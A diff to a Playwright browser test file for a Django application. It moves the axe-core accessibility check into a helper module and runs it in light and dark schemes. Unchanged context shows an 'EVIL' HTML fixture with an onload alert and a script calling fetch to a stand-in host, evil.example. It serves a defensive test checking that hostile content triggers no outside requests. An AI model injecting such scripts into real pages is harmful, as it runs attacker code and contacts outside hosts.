@@ -1,9 +1,7 @@
 """A real browser before a real server: without JavaScript, narrow and wide, light and dark."""
 
 import gzip
-import importlib.util
 import re
-import shutil
 from pathlib import Path
 
 import pytest
@@ -11,19 +9,10 @@ from django.conf import settings
 from playwright.sync_api import Page
 from test_gate import ATTACKS
 
+import accessibility
 from office import PostOffice, letter
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
-
-
-def _inside(package: str) -> list[Path]:
-    """axe-core, where a package that brings it is installed."""
-    spec = importlib.util.find_spec(package)
-    return [
-        path
-        for place in (spec.submodule_search_locations or () if spec else ())
-        for path in Path(place).rglob("axe.min.js")
-    ]
 
 
 EVIL = """<html><body onload="alert(1)"><script>fetch('https://evil.example/s')</script>
@@ -293,17 +282,9 @@ def test_every_attack_in_a_real_browser(visit, office: PostOffice) -> None:
     assert {url.split("/")[2] for url in page.asked if url.startswith("http")} == {page.url.split("/")[2]}
 
 
-AXE = shutil.which("axe.min.js") or next(
-    (str(path) for name in ("axe_playwright_python", "axe_core_python") for path in _inside(name)), ""
-)
-
-
-@pytest.mark.skipif(not AXE, reason="axe-core is not here: pip install axe-playwright-python")
-@pytest.mark.parametrize("width", [340, 1280])
-def test_axe_finds_nothing(visit, library, width: int) -> None:
-    page = visit(width)
+@pytest.mark.parametrize(("width", "scheme"), [(340, "light"), (340, "dark"), (1280, "light"), (1280, "dark")])
+def test_axe_finds_nothing(visit, library, width: int, scheme: str) -> None:
+    page = visit(width, color_scheme=scheme)
     for path in PATHS:
         page.goto(path)
-        page.evaluate(Path(AXE).read_text())
-        found = page.evaluate("axe.run({runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice']})")
-        assert [(v["id"], [n["html"][:150] for n in v["nodes"]][:3]) for v in found["violations"]] == [], path
+        assert accessibility.violations(page) == [], path
